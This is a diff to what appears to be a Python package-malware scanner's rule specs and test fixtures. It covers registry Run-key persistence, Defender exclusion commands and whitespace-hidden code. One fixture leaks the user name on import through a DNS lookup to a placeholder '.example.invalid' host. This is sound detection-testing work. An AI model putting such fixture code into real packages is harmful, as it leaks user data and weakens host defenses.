@@ -202,7 +202,8 @@ SPECS: dict[str, Spec] = {
         "time: high). quiet: an API client that uploads base64-decoded content to a plain URL "
         "and decodes a response.")),
     "PV501": Spec(S.HIGH, note=(
-        "fire: winreg.SetValueEx under CurrentVersion\\Run. quiet: printed instructions naming "
+        "fire: winreg.SetValueEx under CurrentVersion\\Run, called on import. quiet: printed "
+        "instructions naming "
         "~/.bashrc (no write, no process), cron expressions, a STARTUP_TIMEOUT constant.")),
     "PV502": Spec(S.HIGH, note=(
         "fire: powershell Add-MpPreference -ExclusionPath. quiet: powershell "
@@ -218,7 +219,8 @@ SPECS: dict[str, Spec] = {
         "the keyring backend'.")),
     "PV604": Spec(S.HIGH, note=(
         "fire: ;print(1) after 160 spaces on the __version__ line. quiet: a whitespace-only "
-        "line of 200 spaces, a comment after 40 spaces, padding built with ' ' * 160.")),
+        "line of 200 spaces, a bracket continuation that starts 170 columns right, a comment "
+        "after 40 spaces, padding built with ' ' * 160.")),
     "PV605": Spec(S.HIGH, note=(
         "fire: __import__('o' + 's'). quiet: importlib.import_module(f'mypkg.plugins.{name}'), "
         "getattr(module, attr) and import_module('json').")),
@@ -885,6 +887,46 @@ SEVERITY_PATHS = {
             "def startup():\n"
             f"    return os.path.join(os.environ['APPDATA'], '{_STARTUP}')\n")},
         "mypkg/paths.py", 5, S.MEDIUM, "the Startup folder named at run time, nothing written"),
+    "pv501-service-enabled-on-demand": SevPath("PV501", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/service.py": (
+            "import subprocess\n"
+            "\n"
+            "\n"
+            "def enable(unit):\n"
+            "    subprocess.run('systemctl enable ' + unit, shell=True, check=True)\n")},
+        "mypkg/service.py", 5, S.MEDIUM,
+        "a service manager's command, run when the user asks (it could run programs: was high)"),
+    "pv306-user-name-sent-on-demand": SevPath("PV306", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import getpass\n"
+            "import urllib.request\n"
+            "\n"
+            "USER = getpass.getuser()\n"
+            "\n"
+            "\n"
+            "def connect(url):\n"
+            "    return urllib.request.urlopen(url, data=USER.encode())\n")},
+        "mypkg/__init__.py", 4, S.MEDIUM,
+        "the user name read on import, sent only when a caller connects"),
+    "pv306-own-address-looked-up-on-import": SevPath("PV306", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import socket\n"
+            "\n"
+            "LOCAL_IP = socket.gethostbyname(socket.gethostname())\n"
+            "\n"
+            "\n"
+            "def serve():\n"
+            "    return socket.create_server((LOCAL_IP, 8080))\n")},
+        "mypkg/__init__.py", 3, S.MEDIUM,
+        "a DNS lookup of the machine's own name finds an address and sends nothing"),
+    "pv306-user-name-sent-on-import": SevPath("PV306", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import getpass\n"
+            "import socket\n"
+            "\n"
+            "USER = getpass.getuser()\n"
+            "socket.gethostbyname(USER + '.example.invalid')\n")},
+        "mypkg/__init__.py", 4, S.HIGH, "the user name leaves by a DNS lookup on import"),
     "pv606-function-in-package-init": SevPath("PV606", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
             "from PIL import Image\n"
